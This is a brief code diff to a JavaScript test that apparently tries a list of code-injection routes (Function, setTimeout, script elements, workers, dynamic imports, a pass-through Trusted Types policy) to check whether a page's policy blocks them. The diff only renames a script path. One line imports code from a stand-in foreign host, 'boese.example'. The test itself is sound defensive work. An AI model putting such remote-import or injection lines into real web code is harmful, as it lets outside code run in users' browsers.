@@ -49,8 +49,8 @@ const INJECTIONS = `(async () => {
   await attempt('Function', () => new Function(code)());
   await attempt('setTimeout', () => setTimeout(code));
   await attempt('script text', () => { document.createElement('script').textContent = code; });
-  await attempt('script address', () => { document.createElement('script').src = '/look.js'; });
-  await attempt('worker', () => new Worker('/look.js'));
+  await attempt('script address', () => { document.createElement('script').src = '/first.js'; });
+  await attempt('worker', () => new Worker('/first.js'));
   await attempt('import', () => import('data:text/javascript,' + code));
   await attempt('foreign import', () => import('https://boese.example/x.js'));
   await attempt('a policy', () => trustedTypes.createPolicy('ours', { createHTML: (text) => text }));
